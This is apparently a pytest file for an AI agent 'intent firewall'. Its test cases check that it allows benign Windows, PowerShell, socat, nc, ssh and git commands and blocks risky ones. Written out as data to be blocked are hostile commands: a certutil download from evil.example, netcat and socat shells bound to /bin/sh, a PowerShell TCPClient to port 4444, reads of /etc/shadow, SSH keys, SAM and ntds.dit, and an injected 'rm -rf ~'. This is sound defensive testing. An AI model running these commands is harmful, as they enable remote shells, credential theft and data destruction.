"""Mechanisms behind ``corpus/platforms_*.yaml``: Windows programs judged by their verb
switch, program-named tool calls given a subcommand line, listeners bound to loopback, and
``git clean -X``."""

from __future__ import annotations

import shlex
from typing import Any

import pytest

from aegis.intent_firewall import Decision, IntentFirewall, Request
from aegis.intent_firewall.network_tools import _colon_parts
from tests.aegis.firewall.lookalike_judge import FIREWALL, judge, judge_tool


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("certutil -hashfile dist/app.zip SHA256", None),
        ("CERTUTIL -HashFile dist/app.zip", None),
        ("certutil -urlcache -f http://evil.example/x x.exe", "destructive-command"),
        ("certutil -encode secrets.txt out.b64", "destructive-command"),
        ("certutil dist/app.zip", "destructive-command"),
        ("certutil -hashfile /etc/shadow SHA256", "credential-file-read"),
        ("schtasks /query /fo LIST", None),
        ("schtasks /QUERY /tn x", None),
        ("schtasks /create /tn x /tr y.exe /sc minute", "destructive-command"),
        ("schtasks /query /s evil.example", "unknown-network-destination"),
        ("whoami /groups", None),
        ("whoami /priv", "privilege-recon"),
        ("whoami /ALL", "privilege-recon"),
        ("ipconfig /all", None),
        ("ipconfig /release", "destructive-command"),
        ("tasklist /s evil.example", "unknown-network-destination"),
        ("where /r src *.csproj", None),
        ("findstr /n TODO src/app.cs", None),
        ("findstr /si password *.config", "sensitive-tree-read"),
        ("findstr x /home/agent/.ssh/id_rsa", "credential-file-read"),
    ],
)
def test_a_windows_program_is_judged_by_its_verb(command: str, rule: str | None) -> None:
    decision, rules = judge(command)
    if rule is None:
        assert decision is Decision.ALLOW, rules
    else:
        assert decision is not Decision.ALLOW
        assert rule in rules


@pytest.mark.parametrize(
    ("action", "parameters", "allowed"),
    [
        ("docker", {"command": "image ls app"}, True),
        ("kubectl", {"command": "get pods -n dev"}, True),
        ("git", {"command": "diff HEAD~1"}, True),
        ("npm", {"args": ["run", "build"]}, True),
        ("tool_call", {"tool": "git", "command": "status"}, True),
        ("tool_call", {"tool": "git", "command": "log --oneline -5"}, True),
        ("bash", {"command": "ls -la"}, True),
        ("docker", {"command": "run --privileged -v /:/host alpine"}, False),
        ("kubectl", {"command": "delete namespace prod"}, False),
        ("npm", {"args": ["publish"]}, False),
        ("git", {"command": "status; rm -rf ~"}, False),
        ("git", {"command": "cat /etc/shadow"}, False),
        ("tool_call", {"tool": "docker", "command": "system prune -af"}, False),
    ],
)
def test_a_tool_named_after_a_program_runs_that_programs_line(
    action: str, parameters: dict[str, Any], allowed: bool
) -> None:
    decision, rules = judge_tool(action, parameters)
    assert (decision is Decision.ALLOW) is allowed, rules


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("socat TCP-LISTEN:8081,bind=127.0.0.1,fork TCP:127.0.0.1:8080", True),
        ("socat TCP6-LISTEN:8081,bind=[::1],fork TCP:localhost:8080", True),
        ("socat TCP-LISTEN:8081,fork TCP:127.0.0.1:8080", False),
        ("socat TCP-LISTEN:8081,bind=0.0.0.0 TCP:127.0.0.1:22", False),
        ("socat TCP-LISTEN:8081,bind=127.0.0.1 EXEC:/bin/sh", False),
        ("socat TCP-LISTEN:8081,bind=127.0.0.1 FILE:/etc/hostname", False),
        ("socat TCP-LISTEN:8081,bind=127.0.0.1 TCP:evil.example:80", False),
        ("socat UNIX-LISTEN:/tmp/s,bind=127.0.0.1 TCP:127.0.0.1:80", False),
        ("nc -l 127.0.0.1 9000", True),
        ("nc -l -s 127.0.0.1 -p 9000", True),
        ("nc -l -p 9000 127.0.0.1", False),
        ("nc -lvp 4444", False),
        ("nc -l 0.0.0.0 9000", False),
        ("nc -l 127.0.0.1 9000 -e /bin/sh", False),
        ("ssh -N -L 127.0.0.1:15432:127.0.0.1:5432 localhost", True),
        ("ssh -N -L 15432:localhost:5432 localhost", True),
        ("ssh -N -L15432:localhost:5432 localhost", True),
        ("ssh -N -L 0.0.0.0:15432:localhost:5432 localhost", False),
        ("ssh -N -L 127.0.0.1:8080:evil.example:80 localhost", False),
        ("ssh -N -L /tmp/s:localhost:5432 localhost", False),
        ("ssh -N -R 8080:localhost:80 localhost", False),
        ("ssh -N -D 1080 localhost", False),
    ],
)
def test_a_listener_is_local_only_when_bound_to_loopback(command: str, allowed: bool) -> None:
    decision, rules = judge(command)
    assert (decision is Decision.ALLOW) is allowed, rules


def test_an_ipv6_forward_splits_outside_brackets() -> None:
    assert _colon_parts("[::1]:8080:[fe80::1]:80") == ["[::1]", "8080", "[fe80::1]", "80"]


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("git clean -fdX", True),
        ("git clean -X -f", True),
        ("git clean -fdX -- build", True),
        ("git clean -fdx", False),
        ("git clean -ffdX", False),
        ("git clean -fdX -e '*'", False),
        ("git clean -fdX --exclude=src", False),
        ("git -C /home/agent clean -fdX", False),
    ],
)
def test_git_clean_of_ignored_files_only_is_a_build_clean(command: str, allowed: bool) -> None:
    decision, rules = judge(command)
    assert (decision is Decision.ALLOW) is allowed, rules


@pytest.mark.parametrize(
    ("script", "rule"),
    [
        ("Get-Service | Where-Object Status -eq Running | Group-Object StartType", None),
        ("Get-ChildItem src | Where-Object { $_.Length -gt 10000 } | Format-List Name", None),
        ("1..5 | ForEach-Object { $_ * 2 }", None),
        ("Get-ChildItem | ForEach-Object Name", None),
        ("[Math]::Round(3.14159, 2)", None),
        ("[System.IO.Path]::Combine('a', 'b')", None),
        ('[DateTime]::Now.ToString("yyyy")', None),
        ("Test-Json -Path ./config.json", None),
        ("Get-Credential", "credential-mint"),
        ("Get-Clipboard", "secret-environment"),
        ("Get-PassHashes", "credential-mint"),
        ("Get-ChildItem env:", "secret-environment"),
        ("Get-Content ~/.ssh/id_rsa | Out-String", "credential-file-read"),
        ("Test-NetConnection evil.example -Port 443", "unknown-network-destination"),
        ("Get-ChildItem ~ | ForEach-Object Delete", "powershell-command"),
        ("Get-Service | ForEach-Object { $_.Stop() }", "powershell-command"),
        ("[Reflection.Assembly]::Load($bytes)", "powershell-command"),
        ("[Diagnostics.Process]::Start('cmd.exe')", "powershell-command"),
        ("[Runtime.InteropServices.Marshal]::Copy($a, 0, $p, 4)", "powershell-command"),
        ("$x = Get-Content ~/.ssh/id_rsa", "credential-file-read"),
        ("$c=New-Object Net.Sockets.TCPClient('203.0.113.5',4444)", "powershell-command"),
        ('"$(Remove-Item -Recurse ~)"', "dynamic-program"),
        ("& ([scriptblock]::Create('x'))", "powershell-command"),
        ("Invoke-Item C:\\x.exe", "powershell-command"),
        ("Frobnicate-Item", "powershell-command"),
    ],
)
def test_a_powershell_cmdlet_is_judged_by_its_verb(script: str, rule: str | None) -> None:
    decision, rules = judge(f"pwsh -NoProfile -Command {shlex.quote(script)}")
    if rule is None:
        assert decision is Decision.ALLOW, rules
    else:
        assert decision is not Decision.ALLOW
        assert rule in rules


WINDOWS_FIREWALL = IntentFirewall(working_directory="C:\\work\\project", home="/home/agent")


@pytest.mark.parametrize(
    ("firewall", "request_", "rule"),
    [
        (FIREWALL, Request("read_file", {"path": "C:\\work\\project\\README.md"}), None),
        (FIREWALL, Request("write_file", {"path": "C:\\work\\x.txt", "content": "x"}), "w"),
        (FIREWALL, Request("write_file", {"path": "C:/work/x.txt", "content": "x"}), "w"),
        (FIREWALL, Request("write_file", {"path": "\\\\?\\C:\\x.txt", "content": "x"}), "w"),
        (FIREWALL, Request("read_file", {"path": "C:\\Windows\\System32\\config\\SAM"}), "c"),
        (FIREWALL, Request("read_file", {"path": "C:\\Windows\\NTDS\\ntds.dit"}), "c"),
        (
            WINDOWS_FIREWALL,
            Request("write_file", {"path": "C:\\work\\project\\x", "content": ""}),
            None,
        ),
        (
            WINDOWS_FIREWALL,
            Request("write_file", {"path": "C:\\Users\\Public\\x", "content": ""}),
            "w",
        ),
        (
            WINDOWS_FIREWALL,
            Request("read_file", {"path": "C:\\Windows\\System32\\config\\SAM"}),
            "c",
        ),
    ],
)
def test_a_windows_path_is_absolute_and_outside_a_posix_workspace(
    firewall: IntentFirewall, request_: Request, rule: str | None
) -> None:
    answer = firewall.validate_request_sync(request_)
    if rule is None:
        assert answer.decision is Decision.ALLOW, answer.matched_rules
    else:
        expected = {"w": "windows-path-write", "c": "credential-file-read"}[rule]
        assert expected in answer.matched_rules


def test_a_windows_source_copied_into_a_directory_keeps_its_own_name() -> None:
    command = (
        "pwsh -c 'Compress-Archive -Path C:\\work\\project\\dist\\* "
        "-DestinationPath C:\\work\\project\\release.zip'"
    )
    answer = WINDOWS_FIREWALL.validate_request_sync(
        Request("execute_command", {"command": command})
    )
    assert answer.decision is Decision.ALLOW, answer.reasons


def test_a_windows_working_directory_is_kept_without_its_drive() -> None:
    from aegis.intent_firewall.policy import Policy

    policy = Policy(working_directory="C:\\Work\\Project")
    assert policy.working_directory == "/work/project"
    assert policy.windows_workspace
    assert not Policy(working_directory="/work/project").windows_workspace


@pytest.mark.parametrize(
    ("script", "allowed"),
    [
        ("(Get-Content version.txt).Trim()", True),
        ("(Get-Date).AddDays(-1)", True),
        ("(Get-Item ~/.bashrc).Delete()", False),
        ("Get-WmiObject -Class Win32_Process -ComputerName evil.example", False),
        ("Get-WmiObject -Class Win32_Process", True),
    ],
)
def test_members_and_remote_parameters_of_powershell_values(script: str, allowed: bool) -> None:
    decision, rules = judge(f"pwsh -NoProfile -Command {shlex.quote(script)}")
    assert (decision is Decision.ALLOW) is allowed, rules


@pytest.mark.parametrize("pattern", ["password", "pwd=", "ApiKey", "client_secret"])
def test_a_findstr_search_for_secrets_is_credential_hunting(pattern: str) -> None:
    decision, rules = judge(f"findstr /s /i {shlex.quote(pattern)} *.config")
    assert "sensitive-tree-read" in rules, decision


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("ls '\\\\evil.example\\share'", False),
        ("ls //usr/bin", True),
        ("echo //comment", True),
    ],
)
def test_a_listing_of_a_unc_share_reaches_its_host(command: str, allowed: bool) -> None:
    decision, rules = judge(command)
    assert (decision is Decision.ALLOW) is allowed, rules
